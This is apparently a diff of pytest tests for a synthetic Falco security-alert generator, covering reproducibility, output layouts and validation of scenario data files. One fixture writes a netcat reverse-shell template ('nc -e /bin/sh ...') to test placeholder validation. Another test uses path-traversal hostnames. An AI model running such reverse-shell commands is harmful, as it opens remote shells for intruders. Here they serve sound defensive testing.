@@ -10,7 +10,6 @@ from __future__ import annotations
 
 import collections
 import gzip
-import importlib
 import itertools
 import json
 import os
@@ -23,13 +22,23 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+import yaml
 
 from generator.read.models import Priority
+from generator.synthetic import write
+from generator.synthetic.generate import RULES as SYNTH_RULES
+from generator.synthetic.generate import AlertGenerator, generate
+from generator.synthetic.scenarios import (
+    DATA_DIR,
+    PLACEHOLDERS,
+    ScenarioDataError,
+    load_scenarios,
+    load_tables,
+    load_workloads,
+)
+from generator.synthetic.write import dumps, write_alerts
 
 ROOT = Path(__file__).resolve().parents[1]
-if str(ROOT) not in sys.path:  # `benchmarks` lives at the repo root, next to `generator`
-    sys.path.insert(0, str(ROOT))
-synth = importlib.import_module("benchmarks.synth")
 
 FALCO_PRIORITIES = {p.label for p in Priority}
 TOP_KEYS = {"time", "rule", "priority", "source", "tags", "hostname", "output", "output_fields"}
@@ -76,12 +85,12 @@ PREFIX_RE = re.compile(
     re.S,
 )
 START = datetime(2026, 11, 16, tzinfo=UTC)
-RULES = {rule.name: rule for rule in synth.RULES}
+RULES = {rule.name: rule for rule in SYNTH_RULES}
 
 
 @pytest.fixture(scope="module")
 def alerts() -> list[dict[str, Any]]:
-    return list(synth.generate(6000, seed=11, start=START, days=5, hosts=8))
+    return list(generate(6000, seed=11, start=START, days=5, hosts=8))
 
 
 def _differing(a: dict[str, bytes], b: dict[str, bytes]) -> list[str]:
@@ -102,7 +111,7 @@ def _ns(time_text: str) -> int:
 
 def test_same_seed_gives_identical_bytes_and_other_seeds_differ() -> None:
     def render(seed: int) -> str:
-        return "\n".join(synth.dumps(a) for a in synth.generate(1500, seed=seed, start=START))
+        return "\n".join(dumps(a) for a in generate(1500, seed=seed, start=START))
 
     first, again, other = render(4), render(4), render(5)
     same, differs = first == again, first != other  # no pytest diff of megabyte strings
@@ -115,7 +124,7 @@ def test_cli_output_is_byte_identical_across_processes_and_hash_seeds(tmp_path: 
 
     def run(out: Path, hash_seed: str) -> dict[str, bytes]:
         env = {**os.environ, "PYTHONHASHSEED": hash_seed, "PYTHONPATH": str(ROOT)}
-        cmd = [sys.executable, "-m", "benchmarks.synth", "--count", "800", "--seed", "3"]
+        cmd = [sys.executable, "-m", "generator.synthetic", "--count", "800", "--seed", "3"]
         cmd += ["--out", str(out), "--layout", "mixed", "--hosts", "5", "--days", "2"]
         cmd += ["--start", "2026-11-16T00:00:00Z"]
         subprocess.run(cmd, check=True, cwd=ROOT, env=env, capture_output=True)
@@ -222,13 +231,13 @@ def test_about_thirty_percent_carry_a_falcosidekick_uuid4(alerts: list[dict[str,
 
 def test_every_rule_in_the_table_renders() -> None:
     """Rare rules must not blow up halfway through a million-alert benchmark."""
-    gen = synth._Gen(0, 4)
-    for rule in synth.RULES:
+    gen = AlertGenerator(0, 4)
+    for rule in SYNTH_RULES:
         inc = gen.incident(rule)
         ctx = gen.ctx_maker(inc)(inc, 1_795_000_000_123_456_789)
         shown = {k: ("<NA>" if ctx[k] is None else ctx[k]) for k in rule.keys}
         assert rule.fmt % shown
-    assert {r.priority for r in synth.RULES} == FALCO_PRIORITIES
+    assert {r.priority for r in SYNTH_RULES} == FALCO_PRIORITIES
 
 
 # --------------------------------------------------------------------------------------------
@@ -275,11 +284,11 @@ def test_bursts_contain_some_exact_repeats(alerts: list[dict[str, Any]]) -> None
 
 def test_bad_arguments_are_refused() -> None:
     with pytest.raises(ValueError, match="count"):
-        synth.generate(-1)
+        generate(-1)
     with pytest.raises(ValueError, match="timezone"):
-        synth.generate(1, start=datetime(2026, 1, 1))
+        generate(1, start=datetime(2026, 1, 1))
     with pytest.raises(ValueError, match="layout"):
-        synth.write_alerts([], Path("unused"), "tar")
+        write_alerts([], Path("unused"), "tar")
 
 
 # --------------------------------------------------------------------------------------------
@@ -303,11 +312,11 @@ def _read_tree(root: Path) -> list[dict[str, Any]]:
 
 @pytest.mark.parametrize("layout", ["jsonl", "jsonl.gz", "s3", "mixed"])
 def test_write_alerts_round_trips_every_layout(tmp_path: Path, layout: str) -> None:
-    alerts = list(synth.generate(400, seed=2, start=START, days=2, hosts=3))
-    files = synth.write_alerts(alerts, tmp_path, layout, seed=1)
+    alerts = list(generate(400, seed=2, start=START, days=2, hosts=3))
+    files = write_alerts(alerts, tmp_path, layout, seed=1)
     assert files and all(p.is_file() and tmp_path in p.parents for p in files)
     back = _read_tree(tmp_path)
-    assert sorted(map(synth.dumps, back)) == sorted(map(synth.dumps, alerts))
+    assert sorted(map(dumps, back)) == sorted(map(dumps, alerts))
     rel = [p.relative_to(tmp_path).as_posix() for p in files]
     if layout == "jsonl":
         assert all(re.fullmatch(r"[^/]+/2026-11-1[67]\.jsonl", r) for r in rel)
@@ -318,14 +327,14 @@ def test_write_alerts_round_trips_every_layout(tmp_path: Path, layout: str) -> N
 
 
 def test_gzip_output_is_byte_identical_between_runs(tmp_path: Path) -> None:
-    alerts = list(synth.generate(200, seed=9))
-    one = synth.write_alerts(alerts, tmp_path / "one", "jsonl.gz")
-    two = synth.write_alerts(alerts, tmp_path / "two", "jsonl.gz")
+    alerts = list(generate(200, seed=9))
+    one = write_alerts(alerts, tmp_path / "one", "jsonl.gz")
+    two = write_alerts(alerts, tmp_path / "two", "jsonl.gz")
     assert [p.read_bytes() for p in one] == [p.read_bytes() for p in two]
 
 
 def test_hostile_hostname_and_time_cannot_escape_the_output_folder(tmp_path: Path) -> None:
-    alert = next(synth.generate(1, seed=1))
+    alert = next(generate(1, seed=1))
     evil = [
         {**alert, "hostname": "../../../etc"},
         {**alert, "hostname": ".."},
@@ -333,9 +342,99 @@ def test_hostile_hostname_and_time_cannot_escape_the_output_folder(tmp_path: Pat
     ]
     out = tmp_path / "out"
     for layout in ("jsonl", "s3"):
-        for path in synth.write_alerts(evil, out, layout):
+        for path in write_alerts(evil, out, layout):
             assert out.resolve() in path.resolve().parents
     assert {p.name for p in tmp_path.iterdir()} == {"out"}
+
+
+# --------------------------------------------------------------------------------------------
+# The data files (generator/synthetic/data)
+# --------------------------------------------------------------------------------------------
+
+
+def _broken_scenarios(tmp_path: Path, break_it: Any) -> Path:
+    """A copy of the shipped scenarios.yaml with one entry changed by ``break_it(scenarios)``."""
+    doc = yaml.safe_load((DATA_DIR / "scenarios.yaml").read_text("utf-8"))
+    break_it(doc["scenarios"])
+    path = tmp_path / "scenarios.yaml"
+    path.write_text(yaml.safe_dump(doc, sort_keys=False), "utf-8")
+    return path
+
+
+def _rename_cmd(scenarios: list[dict[str, Any]]) -> None:
+    scenarios[12]["cmds"][0]["command"] = scenarios[12]["cmds"][0].pop("cmd")
+
+
+def _misspell_where(scenarios: list[dict[str, Any]]) -> None:
+    scenarios[3]["wher"] = "host"
+
+
+def _unknown_net(scenarios: list[dict[str, Any]]) -> None:
+    scenarios[5]["net"] = "carrier-pigeon"
+
+
+def _template_typo(scenarios: list[dict[str, Any]]) -> None:
+    scenarios[4]["cmds"][1]["cmd"] = "nc -e /bin/sh {ip} {prot}"
+
+
+@pytest.mark.parametrize(
+    ("break_it", "expected"),
+    [
+        (
+            _rename_cmd,
+            ["scenarios[12].cmds[0].cmd: field required", "scenarios[12].cmds[0].command: unknown key"],
+        ),
+        (_misspell_where, ["scenarios[3].wher: unknown key"]),
+        (_unknown_net, ["scenarios[5].net: Input should be"]),
+        (_template_typo, ["scenarios[4].cmds[1].cmd: unknown placeholder(s) ['prot']"]),
+    ],
+)
+def test_a_scenario_file_with_a_wrong_or_missing_key_fails_naming_the_file_and_key(
+    tmp_path: Path, break_it: Any, expected: list[str]
+) -> None:
+    """A typo in the data must stop the load with the file and the entry, never become a default."""
+    broken = _broken_scenarios(tmp_path, break_it)
+    with pytest.raises(ScenarioDataError) as info:
+        load_scenarios(broken)
+    message = str(info.value)
+    assert message.startswith("scenarios.yaml: "), message
+    for part in expected:
+        assert part in message, message
+    assert info.value.path == broken
+    assert isinstance(info.value, ValueError)
+
+
+def test_a_bad_workloads_row_names_the_line_and_column(tmp_path: Path) -> None:
+    text = (DATA_DIR / "workloads.tsv").read_text("utf-8")
+    bad = tmp_path / "workloads.tsv"
+    bad.write_text(text.replace("\tapp\t1000\tweb\t", "\tapp\tone-thousand\tweb\t", 1), "utf-8")
+    line = next(n for n, row in enumerate(bad.read_text("utf-8").splitlines(), 1) if "one-thousand" in row)
+    with pytest.raises(ScenarioDataError, match=rf"^workloads\.tsv: line {line}: uid: "):
+        load_workloads(bad)
+
+
+def test_files_are_checked_against_each_other(tmp_path: Path) -> None:
+    """A scenario naming a rule that is not in rules_summary.tsv (say, renamed upstream) fails."""
+    data = tmp_path / "data"
+    data.mkdir()
+    for src in DATA_DIR.iterdir():
+        (data / src.name).write_bytes(src.read_bytes())
+    assert load_tables(data).rules == SYNTH_RULES  # an unchanged copy loads the same tables
+    _broken_scenarios(data, lambda scenarios: scenarios[0]["rules"].append("Terminal shell in a container"))
+    with pytest.raises(
+        ScenarioDataError, match=r"^scenarios\.yaml: .*'Terminal shell in a container' is not"
+    ):
+        load_tables(data)
+
+
+def test_every_template_placeholder_has_a_value() -> None:
+    """The schema accepts exactly the placeholders the generator can fill."""
+    gen = AlertGenerator(0, 4)
+    inc = gen.incident(next(r for r in SYNTH_RULES if r.source == "syscall"))
+    for key in sorted(PLACEHOLDERS):
+        assert isinstance(gen.sub_value(key, inc), str), key
+    with pytest.raises(KeyError):
+        gen.sub_value("prot", inc)
 
 
 # --------------------------------------------------------------------------------------------
@@ -382,8 +481,8 @@ def test_bundled_input_has_every_format() -> None:
 
 
 def test_committed_synthetic_files_are_what_the_generator_writes(tmp_path: Path) -> None:
-    """Catches a generator change that was not followed by `python -m benchmarks.synth --demo`."""
-    synth.write_demo(tmp_path)
+    """Catches a generator change that was not followed by `python -m generator.synthetic --demo`."""
+    write.write_demo(tmp_path)
     for sub in ("synthetic", "s3"):
         want = {
             p.relative_to(tmp_path).as_posix(): p.read_bytes()
@@ -395,11 +494,10 @@ def test_committed_synthetic_files_are_what_the_generator_writes(tmp_path: Path)
             for p in (ALERTS_DIR / sub).rglob("*")
             if p.is_file()
         }
-        hint = "regenerate with: python -m benchmarks.synth --demo --out alerts"
+        hint = "regenerate with: python -m generator.synthetic --demo --out alerts"
         assert _differing(have, want) == [], hint
     assert (
-        synth.demo_coverage(list(synth.generate(synth.DEMO_COUNT, synth.DEMO_SEED, synth.DEMO_START, 7, 6)))
-        == []
+        write.demo_coverage(list(generate(write.DEMO_COUNT, write.DEMO_SEED, write.DEMO_START, 7, 6))) == []
     )
 
 
